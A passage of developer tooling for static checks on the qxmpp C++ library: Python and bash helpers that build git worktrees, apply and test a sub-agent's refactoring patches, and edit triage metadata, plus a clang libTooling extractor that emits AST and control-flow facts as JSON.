                   'origin': 'sub-agent refactoring campaign'},
                  open('/verif/selftest/neutral/%s.json' % name, 'w'), indent=1)
        n += 1
print(n, 'imported')
