#!/usr/bin/env python3
"""developer aid: ./tool/show.py <unit relative to src> <function qname substring> [--cfg]"""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from qxverif import build, facts  # noqa: E402


def main():
    unit = sys.argv[1]
    pat = sys.argv[2]
    cfg = '--cfg' in sys.argv
    ff = build.extract([build.unit(unit)])
    p = facts.Program(ff)
    for f in p.fns.values():
        if pat not in f.display() and pat not in f.qname:
            continue
        print('=' * 10, f.display(), f.loc(), 'lambda' if f.is_lambda else '', 'parent=%s' % (f.parent_id or '')[-60:])
        for b in sorted(f.blocks.values(), key=lambda b: -b['id']):
            t = b.get('term')
            print(' B%d -> %s %s %s' % (b['id'], b['succs'], ('[%s %s]' % (t['k'], f.fmt(t['cond'])[:120] if 'cond' in t else '')) if t else '',
                                      b.get('label') or ''))
            par = f.parents()
            for e in b['elems']:
                n = f.nodes[e]
                if cfg or n['k'] in ('ret', 'decl', 'assign', 'init') or (n['k'] in ('call', 'construct', 'un', 'new', 'delete') and (par.get(e) is None or f.nodes[par[e]]['k'] in ('decl', 'ret', 'other'))):
                    print('     #%d L%s %s: %s' % (e, n.get('ln'), n['k'], f.fmt(e, inline=False)[:200]))


main()
