#!/bin/bash
# tool/refac_confirm.sh C07 : for each refactoring A..E of the sub-agent in /tmp/refac/C07/_seed: patch applies, library builds, suite passes
id=$1
wt=${SEED_DIR:-/tmp/refac}/$id
for v in A B C D E; do
  sd=$wt/_seed/$v
  [ -f $sd/patch.diff ] || continue
  git -C $wt checkout -q -- src
  if ! git -C $wt apply --check $sd/patch.diff 2>/dev/null; then echo "$id $v: patch-does-not-apply"; continue; fi
  git -C $wt apply $sd/patch.diff
  if ! ninja -C $wt/_build > $sd/confirm.log 2>&1; then echo "$id $v: build-fails"; git -C $wt checkout -q -- src; continue; fi
  ctest --test-dir $wt/_build -j6 --timeout 900 -E tst_qxmppiceconnection >> $sd/confirm.log 2>&1
  failed=$(grep -E "^\s+[0-9]+ - tst_" $sd/confirm.log | awk '{print $3}' | sort -u)
  for t in $failed; do
    if ctest --test-dir $wt/_build -R "^$t\$" --timeout 900 >> $sd/confirm.log 2>&1; then failed=$(echo $failed | sed "s/\b$t\b//"); fi
  done
  failed=$(echo $failed | xargs)
  echo "$id $v: tests ${failed:-all pass}"
  git -C $wt checkout -q -- src
done
ninja -C $wt/_build > /dev/null 2>&1
