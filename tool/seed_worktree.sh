#!/bin/bash
# tool/seed_worktree.sh C07 : scratch worktree of /repo HEAD under /tmp/seed, configured and built
set -e
id=$1
wt=${SEED_DIR:-/tmp/seed}/$id
mkdir -p ${SEED_DIR:-/tmp/seed}
git -C /repo worktree add -q --detach "$wt" HEAD
cmake -S "$wt" -B "$wt/_build" -G Ninja -DBUILD_INTERNAL_TESTS=ON -DBUILD_TESTS=ON -DBUILD_EXAMPLES=OFF -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null 2>&1
ninja -C "$wt/_build" >/dev/null 2>&1
echo "$wt ready"
