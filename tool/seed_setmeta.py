#!/usr/bin/env python3
"""tool/seed_setmeta.py <name> key=value ... : set triage fields (round, check_first_run, check_now) in seeded/<name>/meta.json"""
import json, sys
name = sys.argv[1]
p = '/verif/seeded/%s/meta.json' % name
m = json.load(open(p))
for kv in sys.argv[2:]:
    k, v = kv.split('=', 1)
    m[k] = int(v) if v.isdigit() else v
json.dump(m, open(p, 'w'), indent=1)
