// qxv — fact extractor for the qxmpp static checks (clang 14 libTooling).
//
// For one translation unit it writes one JSON file with, for every function / method / lambda /
// template instantiation *defined under the source root* (default /repo/src):
//   - a normalised expression-node table (implicit casts, parens, temporaries stripped),
//   - the clang CFG (all sub-expressions added) as blocks of node ids with labelled edges,
// plus records (fields, default initialisers, constructors), enums, constant tables and
// every error diagnostic.  No verdict is computed here; the python rules read these facts.
//
// usage: qxv --out FILE [--root /repo/src] -- <clang args...> file.cpp

#include "clang/AST/ASTConsumer.h"
#include "clang/AST/ASTContext.h"
#include "clang/AST/Attr.h"
#include "clang/AST/DeclCXX.h"
#include "clang/AST/DeclTemplate.h"
#include "clang/AST/ExprCXX.h"
#include "clang/AST/RecursiveASTVisitor.h"
#include "clang/AST/StmtCXX.h"
#include "clang/Analysis/CFG.h"
#include "clang/Basic/Diagnostic.h"
#include "clang/Basic/SourceManager.h"
#include "clang/Frontend/CompilerInstance.h"
#include "clang/Frontend/FrontendAction.h"
#include "clang/Index/USRGeneration.h"
#include "clang/Lex/Lexer.h"
#include "clang/Tooling/CompilationDatabase.h"
#include "clang/Tooling/Tooling.h"
#include "llvm/Support/JSON.h"
#include "llvm/Support/raw_ostream.h"

#include <deque>
#include <map>
#include <set>
#include <string>
#include <vector>

using namespace clang;
namespace json = llvm::json;

static std::string gRoot = "/repo/src";
static std::string gOut;
static std::vector<std::string> gExtraRoots;

namespace {

struct DiagRec {
    std::string file;
    unsigned line = 0;
    std::string msg;
};

class DiagCollector : public DiagnosticConsumer {
public:
    std::vector<DiagRec> errs;
    void HandleDiagnostic(DiagnosticsEngine::Level L, const Diagnostic &Info) override
    {
        DiagnosticConsumer::HandleDiagnostic(L, Info);
        if (L < DiagnosticsEngine::Error)
            return;
        DiagRec r;
        llvm::SmallString<256> buf;
        Info.FormatDiagnostic(buf);
        r.msg = std::string(buf.str());
        if (Info.hasSourceManager() && Info.getLocation().isValid()) {
            auto &SM = Info.getSourceManager();
            auto PL = SM.getPresumedLoc(SM.getExpansionLoc(Info.getLocation()));
            if (PL.isValid()) {
                r.file = PL.getFilename();
                r.line = PL.getLine();
            }
        }
        errs.push_back(r);
    }
};

static DiagCollector *gDiag = nullptr;

class Extractor {
public:
    ASTContext &Ctx;
    SourceManager &SM;
    PrintingPolicy PP;

    json::Array jFunctions, jRecords, jEnums, jTables, jSyms;
    std::map<const Decl *, int> symIndex;
    std::map<const Decl *, int> varIndex;
    std::set<const FunctionDecl *> emitted;
    std::set<const Decl *> emittedDecls;
    std::deque<std::pair<const FunctionDecl *, const FunctionDecl *>> lambdaQueue;  // (lambda op, parent)
    std::map<const CXXRecordDecl *, std::set<const Decl *>> signalCache;

    explicit Extractor(ASTContext &C) : Ctx(C), SM(C.getSourceManager()), PP(C.getLangOpts())
    {
        PP.SuppressTagKeyword = true;
        PP.Bool = true;
        PP.SuppressUnwrittenScope = true;
        PP.TerseOutput = true;
    }

    // ---------------------------------------------------------------- helpers
    std::string fileOf(SourceLocation L)
    {
        if (L.isInvalid())
            return "";
        auto PL = SM.getPresumedLoc(SM.getExpansionLoc(L));
        return PL.isValid() ? std::string(PL.getFilename()) : std::string();
    }
    unsigned lineOf(SourceLocation L)
    {
        if (L.isInvalid())
            return 0;
        auto PL = SM.getPresumedLoc(SM.getExpansionLoc(L));
        return PL.isValid() ? PL.getLine() : 0;
    }
    bool inRoot(SourceLocation L)
    {
        std::string f = fileOf(L);
        if (f.rfind(gRoot, 0) == 0)
            return true;
        for (auto &r : gExtraRoots)
            if (f.rfind(r, 0) == 0)
                return true;
        return false;
    }
    std::string typeStr(QualType T)
    {
        if (T.isNull())
            return "";
        return T.getAsString(PP);
    }
    std::string typeClass(QualType T)
    {
        if (T.isNull())
            return "other";
        QualType C = T.getCanonicalType().getNonReferenceType();
        C = C.getUnqualifiedType();
        if (const auto *ET = C->getAs<EnumType>())
            return "enum:" + ET->getDecl()->getQualifiedNameAsString();
        if (C->isBooleanType())
            return "bool";
        if (C->isIntegerType()) {
            unsigned w = Ctx.getTypeSize(C);
            return "int" + std::to_string(w) + (C->isSignedIntegerType() ? "s" : "u");
        }
        if (C->isFloatingType())
            return "float";
        if (C->isPointerType() || C->isMemberPointerType() || C->isNullPtrType())
            return "ptr";
        if (const auto *RT = C->getAs<RecordType>())
            return "record:" + RT->getDecl()->getQualifiedNameAsString();
        return "other";
    }
    std::string usrOf(const Decl *D)
    {
        llvm::SmallString<256> buf;
        if (index::generateUSRForDecl(D, buf))
            return "";
        return std::string(buf.str());
    }
    std::string fnId(const FunctionDecl *FD)
    {
        std::string u = usrOf(FD);
        if (u.empty() || isLambdaOp(FD)) {
            u = "L:" + fileOf(FD->getBeginLoc()) + ":" + std::to_string(lineOf(FD->getBeginLoc())) + ":" +
                std::to_string(SM.getExpansionColumnNumber(FD->getBeginLoc())) + ":" + usrOf(FD);
        }
        return u;
    }
    static bool isLambdaOp(const FunctionDecl *FD)
    {
        if (const auto *MD = dyn_cast<CXXMethodDecl>(FD))
            return MD->getParent()->isLambda();
        return false;
    }
    std::string templArgs(const FunctionDecl *FD)
    {
        std::string s;
        llvm::raw_string_ostream os(s);
        if (const auto *MD = dyn_cast<CXXMethodDecl>(FD)) {
            if (const auto *Spec = dyn_cast<ClassTemplateSpecializationDecl>(MD->getParent())) {
                printTemplateArgumentList(os, Spec->getTemplateArgs().asArray(), PP);
            }
        }
        if (const auto *Args = FD->getTemplateSpecializationArgs()) {
            printTemplateArgumentList(os, Args->asArray(), PP);
        }
        return os.str();
    }

    const std::set<const Decl *> &signalsOf(const CXXRecordDecl *RD)
    {
        auto it = signalCache.find(RD);
        if (it != signalCache.end())
            return it->second;
        auto &S = signalCache[RD];
        bool inSignals = false;
        for (const Decl *D : RD->decls()) {
            if (const auto *AS = dyn_cast<AccessSpecDecl>(D)) {
                inSignals = false;
                for (const auto *A : AS->specific_attrs<AnnotateAttr>())
                    if (A->getAnnotation() == "qt_signal")
                        inSignals = true;
                continue;
            }
            const Decl *M = D;
            if (const auto *FT = dyn_cast<FunctionTemplateDecl>(D))
                M = FT->getTemplatedDecl();
            if (const auto *MD = dyn_cast<CXXMethodDecl>(M)) {
                bool sig = inSignals;
                for (const auto *A : MD->specific_attrs<AnnotateAttr>())
                    if (A->getAnnotation() == "qt_signal")
                        sig = true;
                if (sig)
                    S.insert(MD->getCanonicalDecl());
            }
        }
        return S;
    }
    bool isSignal(const FunctionDecl *FD)
    {
        const auto *MD = dyn_cast<CXXMethodDecl>(FD);
        if (!MD)
            return false;
        const CXXRecordDecl *RD = MD->getParent();
        if (!RD->hasDefinition())
            return false;
        RD = RD->getDefinition();
        const auto &S = signalsOf(RD);
        return S.count(MD->getCanonicalDecl()) > 0;
    }

    int symFor(const FunctionDecl *FD)
    {
        const Decl *key = FD->getCanonicalDecl();
        auto it = symIndex.find(key);
        if (it != symIndex.end())
            return it->second;
        json::Object o;
        o["usr"] = fnId(FD);
        o["qname"] = FD->getQualifiedNameAsString();
        o["name"] = FD->getNameAsString();
        std::string ta = templArgs(FD);
        if (!ta.empty())
            o["targs"] = ta;
        if (const auto *MD = dyn_cast<CXXMethodDecl>(FD)) {
            o["record"] = MD->getParent()->getQualifiedNameAsString();
            if (MD->isVirtual())
                o["virtual"] = true;
            if (MD->isStatic())
                o["static"] = true;
            if (MD->isConst())
                o["const"] = true;
            if (isa<CXXConstructorDecl>(MD))
                o["ctor"] = true;
            if (isa<CXXDestructorDecl>(MD))
                o["dtor"] = true;
            if (isSignal(FD))
                o["signal"] = true;
        }
        json::Array pt;
        for (const auto *P : FD->parameters())
            pt.push_back(typeStr(P->getType()));
        o["ptypes"] = std::move(pt);
        o["ret"] = typeStr(FD->getReturnType());
        const FunctionDecl *Def = nullptr;
        bool hasBody = FD->hasBody(Def);
        SourceLocation L = FD->getLocation();
        o["inrepo"] = inRoot(L);
        o["file"] = fileOf(L);
        if (hasBody && Def)
            o["defined"] = true;
        if (FD->isNoReturn())
            o["noreturn"] = true;
        int idx = (int)jSyms.size();
        jSyms.push_back(std::move(o));
        symIndex[key] = idx;
        return idx;
    }

    int varFor(const Decl *D)
    {
        auto it = varIndex.find(D);
        if (it != varIndex.end())
            return it->second;
        int idx = (int)varIndex.size() + 1;
        varIndex[D] = idx;
        return idx;
    }

    // ---------------------------------------------------------------- node emission
    struct FnCtx {
        json::Array nodes;
        std::map<const Stmt *, int> memo;
        bool degraded = false;
        const FunctionDecl *FD = nullptr;
    };

    static const Expr *stripExpr(const Expr *E)
    {
        while (E) {
            if (const auto *X = dyn_cast<ImplicitCastExpr>(E)) {
                auto K = X->getCastKind();
                if (K == CK_IntegralCast || K == CK_FloatingToIntegral || K == CK_IntegralToBoolean ||
                    K == CK_IntegralToFloating)
                    return E;  // kept as 'icast'
                E = X->getSubExpr();
            } else if (const auto *X = dyn_cast<ParenExpr>(E))
                E = X->getSubExpr();
            else if (const auto *X = dyn_cast<FullExpr>(E))
                E = X->getSubExpr();
            else if (const auto *X = dyn_cast<MaterializeTemporaryExpr>(E))
                E = X->getSubExpr();
            else if (const auto *X = dyn_cast<CXXBindTemporaryExpr>(E))
                E = X->getSubExpr();
            else if (const auto *X = dyn_cast<SubstNonTypeTemplateParmExpr>(E))
                E = X->getReplacement();
            else if (const auto *X = dyn_cast<CXXStdInitializerListExpr>(E))
                E = X->getSubExpr();
            else if (const auto *X = dyn_cast<OpaqueValueExpr>(E)) {
                if (X->getSourceExpr())
                    E = X->getSourceExpr();
                else
                    return E;
            } else if (const auto *X = dyn_cast<CXXFunctionalCastExpr>(E)) {
                if (X->getType()->isRecordType())
                    E = X->getSubExpr();
                else
                    return E;
            } else if (const auto *X = dyn_cast<CXXConstructExpr>(E)) {
                const auto *CD = X->getConstructor();
                if (X->getNumArgs() == 1 && CD && CD->isCopyOrMoveConstructor() && !isa<CXXTemporaryObjectExpr>(X))
                    E = X->getArg(0);
                else
                    return E;
            } else
                return E;
        }
        return E;
    }

    // Qt5 QStringLiteral(str) expands to an immediately invoked lambda; fold it to a string node.
    bool macroNameIs(SourceLocation L, llvm::StringRef name)
    {
        while (L.isMacroID()) {
            llvm::StringRef n = Lexer::getImmediateMacroName(L, SM, Ctx.getLangOpts());
            if (n == name)
                return true;
            L = SM.getImmediateMacroCallerLoc(L);
        }
        return false;
    }
    const StringLiteral *findStringLiteral(const Stmt *S)
    {
        if (!S)
            return nullptr;
        if (const auto *SL = dyn_cast<StringLiteral>(S))
            return SL;
        if (const auto *DS = dyn_cast<DeclStmt>(S)) {
            for (const auto *D : DS->decls())
                if (const auto *VD = dyn_cast<VarDecl>(D))
                    if (VD->getInit())
                        if (auto *R = findStringLiteral(VD->getInit()))
                            return R;
            return nullptr;
        }
        for (const Stmt *C : S->children())
            if (auto *R = findStringLiteral(C))
                return R;
        return nullptr;
    }
    std::string strValue(const StringLiteral *SL)
    {
        if (SL->getCharByteWidth() == 1)
            return std::string(SL->getBytes());
        std::string out;
        for (unsigned i = 0; i < SL->getLength(); i++) {
            uint32_t c = SL->getCodeUnit(i);
            if (c < 0x80)
                out.push_back((char)c);
            else if (c < 0x800) {
                out.push_back((char)(0xC0 | (c >> 6)));
                out.push_back((char)(0x80 | (c & 0x3F)));
            } else {
                out.push_back((char)(0xE0 | (c >> 12)));
                out.push_back((char)(0x80 | ((c >> 6) & 0x3F)));
                out.push_back((char)(0x80 | (c & 0x3F)));
            }
        }
        return out;
    }
    const LambdaExpr *asQStringLiteralLambdaCall(const Expr *E)
    {
        const auto *CE = dyn_cast<CXXOperatorCallExpr>(E);
        if (!CE || CE->getOperator() != OO_Call || CE->getNumArgs() != 1)
            return nullptr;
        const Expr *Obj = stripExpr(CE->getArg(0));
        const auto *LE = dyn_cast_or_null<LambdaExpr>(Obj);
        if (!LE)
            return nullptr;
        if (!macroNameIs(CE->getBeginLoc(), "QStringLiteral") && !macroNameIs(CE->getBeginLoc(), "QByteArrayLiteral"))
            return nullptr;
        return LE;
    }

    std::string udlText(const CallExpr *X)
    {
        SourceLocation B = Lexer::GetBeginningOfToken(SM.getSpellingLoc(X->getBeginLoc()), SM, Ctx.getLangOpts());
        SourceLocation E = SM.getSpellingLoc(X->getEndLoc());
        bool inv = false;
        llvm::StringRef src = Lexer::getSourceText(CharSourceRange::getTokenRange(B, E), SM, Ctx.getLangOpts(), &inv);
        if (inv)
            return "";
        if (getenv("QXV_DEBUG_UDL"))
            llvm::errs() << "UDL[" << src << "]\n";
        std::string out;
        size_t i = 0;
        while (i < src.size()) {
            if (src[i] == 'R' && i + 1 < src.size() && src[i + 1] == '"') {
                // raw string R"delim( ... )delim"
                size_t p = src.find('(', i);
                if (p == llvm::StringRef::npos)
                    break;
                std::string delim = ")" + src.substr(i + 2, p - i - 2).str() + "\"";
                size_t q = src.find(delim, p);
                if (q == llvm::StringRef::npos)
                    break;
                out += src.substr(p + 1, q - p - 1).str();
                i = q + delim.size();
                continue;
            }
            if (src[i] != '"') {
                i++;
                continue;
            }
            i++;
            while (i < src.size() && src[i] != '"') {
                if (src[i] == '\\' && i + 1 < src.size()) {
                    char c = src[i + 1];
                    switch (c) {
                    case 'n': out.push_back('\n'); break;
                    case 't': out.push_back('\t'); break;
                    case 'r': out.push_back('\r'); break;
                    case '0': out.push_back('\0'); break;
                    default: out.push_back(c); break;
                    }
                    i += 2;
                } else {
                    out.push_back(src[i]);
                    i++;
                }
            }
            i++;
        }
        return out;
    }

    int push(FnCtx &F, json::Object &&o, const Stmt *S)
    {
        if (S)
            o["ln"] = (int64_t)lineOf(S->getBeginLoc());
        int id = (int)F.nodes.size();
        F.nodes.push_back(std::move(o));
        return id;
    }

    json::Value kid(FnCtx &F, const Stmt *S)
    {
        if (!S)
            return nullptr;
        return emitNode(F, S);
    }

    int emitNode(FnCtx &F, const Stmt *S0)
    {
        const Stmt *S = S0;
        if (const auto *E = dyn_cast<Expr>(S0))
            S = stripExpr(E);
        auto it = F.memo.find(S);
        if (it != F.memo.end())
            return it->second;
        int id = emitNodeImpl(F, S);
        F.memo[S] = id;
        if (S != S0)
            F.memo[S0] = id;
        return id;
    }

    json::Array kids(FnCtx &F, const Stmt *S)
    {
        json::Array a;
        for (const Stmt *C : S->children())
            if (C)
                a.push_back(emitNode(F, C));
        return a;
    }

    void callCommon(FnCtx &F, json::Object &o, const FunctionDecl *FD, QualType T)
    {
        if (FD)
            o["c"] = symFor(FD);
        o["t"] = typeStr(T);
    }

    int emitNodeImpl(FnCtx &F, const Stmt *S)
    {
        json::Object o;
        if (const auto *E = dyn_cast<Expr>(S)) {
            if (E->containsErrors())
                F.degraded = true;
        }
        // --- literals
        if (const auto *X = dyn_cast<StringLiteral>(S)) {
            o["k"] = "str";
            o["v"] = json::fixUTF8(strValue(X));
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<IntegerLiteral>(S)) {
            o["k"] = "int";
            o["v"] = (int64_t)X->getValue().getLimitedValue();
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXBoolLiteralExpr>(S)) {
            o["k"] = "bool";
            o["v"] = X->getValue();
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CharacterLiteral>(S)) {
            o["k"] = "char";
            o["v"] = (int64_t)X->getValue();
            return push(F, std::move(o), S);
        }
        if (isa<CXXNullPtrLiteralExpr>(S) || isa<GNUNullExpr>(S)) {
            o["k"] = "null";
            return push(F, std::move(o), S);
        }
        if (isa<FloatingLiteral>(S)) {
            o["k"] = "float";
            return push(F, std::move(o), S);
        }
        if (isa<CXXThisExpr>(S)) {
            o["k"] = "this";
            return push(F, std::move(o), S);
        }
        if (isa<CXXScalarValueInitExpr>(S) || isa<ImplicitValueInitExpr>(S)) {
            o["k"] = "zero";
            o["t"] = typeStr(cast<Expr>(S)->getType());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXDefaultArgExpr>(S)) {
            o["k"] = "defarg";
            (void)X;
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXDefaultInitExpr>(S)) {
            o["k"] = "definit";
            o["f"] = X->getField()->getQualifiedNameAsString();
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<ImplicitCastExpr>(S)) {
            // only integral conversions survive stripExpr
            o["k"] = "icast";
            o["to"] = typeClass(X->getType());
            o["from"] = typeClass(X->getSubExpr()->getType());
            o["e"] = emitNode(F, X->getSubExpr());
            return push(F, std::move(o), S);
        }
        // --- references
        if (const auto *X = dyn_cast<DeclRefExpr>(S)) {
            const ValueDecl *D = X->getDecl();
            if (const auto *EC = dyn_cast<EnumConstantDecl>(D)) {
                o["k"] = "enum";
                o["name"] = EC->getQualifiedNameAsString();
                o["v"] = (int64_t)EC->getInitVal().getExtValue();
                if (const auto *ED = dyn_cast<EnumDecl>(EC->getDeclContext()))
                    o["enum"] = ED->getQualifiedNameAsString();
                return push(F, std::move(o), S);
            }
            if (const auto *FD = dyn_cast<FunctionDecl>(D)) {
                o["k"] = "fnref";
                o["c"] = symFor(FD);
                return push(F, std::move(o), S);
            }
            if (const auto *BD = dyn_cast<BindingDecl>(D)) {
                o["k"] = "var";
                o["decl"] = varFor(BD);
                o["name"] = BD->getNameAsString();
                o["vk"] = "binding";
                o["t"] = typeStr(BD->getType());
                if (const auto *DD = dyn_cast_or_null<DecompositionDecl>(BD->getDecomposedDecl())) {
                    o["of"] = varFor(DD);
                    int i = 0;
                    for (const auto *B : DD->bindings()) {
                        if (B == BD)
                            o["idx"] = i;
                        i++;
                    }
                }
                return push(F, std::move(o), S);
            }
            if (const auto *VD = dyn_cast<VarDecl>(D)) {
                o["k"] = "var";
                o["decl"] = varFor(VD->getCanonicalDecl());
                o["name"] = VD->getNameAsString();
                o["t"] = typeStr(VD->getType());
                o["tc"] = typeClass(VD->getType());
                if (const auto *PD = dyn_cast<ParmVarDecl>(VD)) {
                    o["vk"] = "param";
                    o["pidx"] = (int64_t)PD->getFunctionScopeIndex();
                    // parameter of this function or of an enclosing one (captured)
                    if (PD->getDeclContext() != F.FD)
                        o["outer"] = true;
                } else if (VD->isLocalVarDecl()) {
                    o["vk"] = VD->isStaticLocal() ? "static" : "local";
                    if (VD->getDeclContext() != F.FD)
                        o["outer"] = true;
                } else {
                    o["vk"] = "global";
                    o["qname"] = VD->getQualifiedNameAsString();
                }
                return push(F, std::move(o), S);
            }
            o["k"] = "ref";
            o["name"] = D->getQualifiedNameAsString();
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<MemberExpr>(S)) {
            const ValueDecl *D = X->getMemberDecl();
            if (const auto *FD = dyn_cast<FieldDecl>(D)) {
                o["k"] = "mem";
                o["f"] = FD->getQualifiedNameAsString();
                o["name"] = FD->getNameAsString();
                o["t"] = typeStr(FD->getType());
                o["tc"] = typeClass(FD->getType());
                o["base"] = emitNode(F, X->getBase());
                return push(F, std::move(o), S);
            }
            if (const auto *MD = dyn_cast<CXXMethodDecl>(D)) {
                o["k"] = "methref";
                o["c"] = symFor(MD);
                o["base"] = emitNode(F, X->getBase());
                return push(F, std::move(o), S);
            }
            if (const auto *VD = dyn_cast<VarDecl>(D)) {
                o["k"] = "var";
                o["decl"] = varFor(VD->getCanonicalDecl());
                o["name"] = VD->getNameAsString();
                o["vk"] = "global";
                o["qname"] = VD->getQualifiedNameAsString();
                o["t"] = typeStr(VD->getType());
                return push(F, std::move(o), S);
            }
            if (const auto *EC = dyn_cast<EnumConstantDecl>(D)) {
                o["k"] = "enum";
                o["name"] = EC->getQualifiedNameAsString();
                o["v"] = (int64_t)EC->getInitVal().getExtValue();
                return push(F, std::move(o), S);
            }
        }
        // --- QStringLiteral
        if (const auto *E = dyn_cast<Expr>(S)) {
            if (const LambdaExpr *LE = asQStringLiteralLambdaCall(E)) {
                const StringLiteral *SL = findStringLiteral(LE->getBody());
                o["k"] = "str";
                o["v"] = SL ? json::fixUTF8(strValue(SL)) : std::string();
                o["via"] = "QStringLiteral";
                return push(F, std::move(o), S);
            }
        }
        // --- lambda
        if (const auto *X = dyn_cast<LambdaExpr>(S)) {
            o["k"] = "lambda";
            const CXXMethodDecl *Op = X->getCallOperator();
            json::Array fns;
            if (X->isGenericLambda()) {
                bool any = false;
                if (auto *FT = X->getDependentCallOperator()) {
                    for (auto *Spec : FT->specializations()) {
                        if (Spec->hasBody() && !Spec->isDependentContext() && !Spec->isInvalidDecl()) {
                            fns.push_back(fnId(Spec));
                            lambdaQueue.push_back({ Spec, F.FD });
                            any = true;
                        }
                    }
                }
                if (!any && Op && Op->hasBody()) {
                    // never (successfully) instantiated: keep the dependent pattern so its shape is still visible
                    fns.push_back(fnId(Op));
                    lambdaQueue.push_back({ Op, F.FD });
                    o["dependent"] = true;
                }
            } else if (Op && Op->hasBody()) {
                fns.push_back(fnId(Op));
                lambdaQueue.push_back({ Op, F.FD });
            }
            o["fns"] = std::move(fns);
            json::Array caps;
            auto initIt = X->capture_init_begin();
            for (const auto &C : X->captures()) {
                json::Object c;
                if (C.capturesThis())
                    c["this"] = true;
                else if (C.capturesVariable()) {
                    const VarDecl *VD = C.getCapturedVar();
                    c["var"] = varFor(VD->getCanonicalDecl());
                    c["name"] = VD->getNameAsString();
                    c["byref"] = C.getCaptureKind() == LCK_ByRef;
                    if (VD->isInitCapture() && VD->getInit())
                        c["init"] = emitNode(F, VD->getInit());
                    else if (initIt != X->capture_init_end() && *initIt) {
                        // copy of an outer variable: record which
                        const Expr *IE = stripExpr(*initIt);
                        if (const auto *DR = dyn_cast_or_null<DeclRefExpr>(IE)) {
                            if (const auto *OV = dyn_cast<VarDecl>(DR->getDecl()))
                                c["from"] = varFor(OV->getCanonicalDecl());
                        }
                    }
                }
                caps.push_back(std::move(c));
                if (initIt != X->capture_init_end())
                    ++initIt;
            }
            o["caps"] = std::move(caps);
            return push(F, std::move(o), S);
        }
        // --- calls
        if (const auto *X = dyn_cast<CXXOperatorCallExpr>(S)) {
            auto Op = X->getOperator();
            const FunctionDecl *FD = X->getDirectCallee();
            bool isAssign = X->isAssignmentOp();
            if (isAssign && X->getNumArgs() == 2) {
                o["k"] = "assign";
                o["op"] = std::string(getOperatorSpelling(Op));
                o["l"] = emitNode(F, X->getArg(0));
                o["r"] = emitNode(F, X->getArg(1));
                callCommon(F, o, FD, X->getType());
                return push(F, std::move(o), S);
            }
            o["k"] = "call";
            o["op"] = std::string(getOperatorSpelling(Op));
            json::Array args;
            for (const Expr *A : X->arguments())
                args.push_back(emitNode(F, A));
            bool memberOp = FD && isa<CXXMethodDecl>(FD) && !cast<CXXMethodDecl>(FD)->isStatic();
            if (memberOp && !args.empty()) {
                o["obj"] = args[0];
                json::Array rest;
                for (size_t i = 1; i < args.size(); i++)
                    rest.push_back(args[i]);
                o["args"] = std::move(rest);
                o["opargs"] = std::move(args);
            } else {
                o["opargs"] = json::Array(args);
                o["args"] = std::move(args);
            }
            callCommon(F, o, FD, X->getType());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXMemberCallExpr>(S)) {
            o["k"] = "call";
            const CXXMethodDecl *MD = X->getMethodDecl();
            if (const Expr *Obj = X->getImplicitObjectArgument())
                o["obj"] = emitNode(F, Obj);
            json::Array args;
            for (const Expr *A : X->arguments())
                args.push_back(emitNode(F, A));
            o["args"] = std::move(args);
            if (!MD) {
                o["fn"] = emitNode(F, X->getCallee());
            }
            callCommon(F, o, MD, X->getType());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CallExpr>(S)) {
            o["k"] = "call";
            const FunctionDecl *FD = X->getDirectCallee();
            json::Array args;
            for (const Expr *A : X->arguments())
                args.push_back(emitNode(F, A));
            o["args"] = std::move(args);
            if (!FD)
                o["fn"] = emitNode(F, X->getCallee());
            if (isa<UserDefinedLiteral>(X)) {
                o["udl"] = true;
                if (X->getNumArgs() == 0) {
                    // C++20 string literal operator template (u"..."_s): the text only exists as a
                    // template argument; recover it from the token spelling and keep it as a string node
                    std::string txt = udlText(X);
                    json::Object so;
                    so["k"] = "str";
                    so["v"] = json::fixUTF8(txt);
                    so["via"] = "udl";
                    int sid = push(F, std::move(so), S);
                    json::Array a2;
                    a2.push_back(sid);
                    o["args"] = std::move(a2);
                }
            }
            callCommon(F, o, FD, X->getType());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXConstructExpr>(S)) {
            o["k"] = "construct";
            const CXXConstructorDecl *CD = X->getConstructor();
            o["cls"] = CD->getParent()->getQualifiedNameAsString();
            json::Array args;
            for (const Expr *A : X->arguments())
                args.push_back(emitNode(F, A));
            o["args"] = std::move(args);
            if (X->isListInitialization())
                o["list"] = true;
            if (X->requiresZeroInitialization())
                o["zero"] = true;
            if (CD->isDefaultConstructor())
                o["defctor"] = true;
            if (!CD->isUserProvided())
                o["implicit_ctor"] = true;
            if (isa<CXXTemporaryObjectExpr>(X))
                o["temp"] = true;
            callCommon(F, o, CD, X->getType());
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXNewExpr>(S)) {
            o["k"] = "new";
            o["cls"] = typeStr(X->getAllocatedType());
            o["tc"] = typeClass(X->getAllocatedType());
            switch (X->getInitializationStyle()) {
            case CXXNewExpr::NoInit: o["init"] = "none"; break;
            case CXXNewExpr::CallInit: o["init"] = "call"; break;
            case CXXNewExpr::ListInit: o["init"] = "list"; break;
            }
            if (X->getInitializer())
                o["e"] = emitNode(F, X->getInitializer());
            if (X->isArray() && X->getArraySize() && *X->getArraySize())
                o["size"] = emitNode(F, *X->getArraySize());
            json::Array pl;
            for (unsigned i = 0; i < X->getNumPlacementArgs(); i++)
                pl.push_back(emitNode(F, X->getPlacementArg(i)));
            if (!pl.empty())
                o["placement"] = std::move(pl);
            return push(F, std::move(o), S);
        }
        if (const auto *X = dyn_cast<CXXDeleteExpr>(S)) {
            o["k"] = "delete";
            o["e"] = emitNode(F, X->getArgument());
            return push(F, std::move(o), S);
        }
        // --- operators
        if (const auto *X = dyn_cast<CXXRewrittenBinaryOperator>(S)) {
            auto D = X->getDecomposedForm();
            o["k"] = "bin";
            o["op"] = std::string(BinaryOperator::getOpcodeStr(D.Opcode));
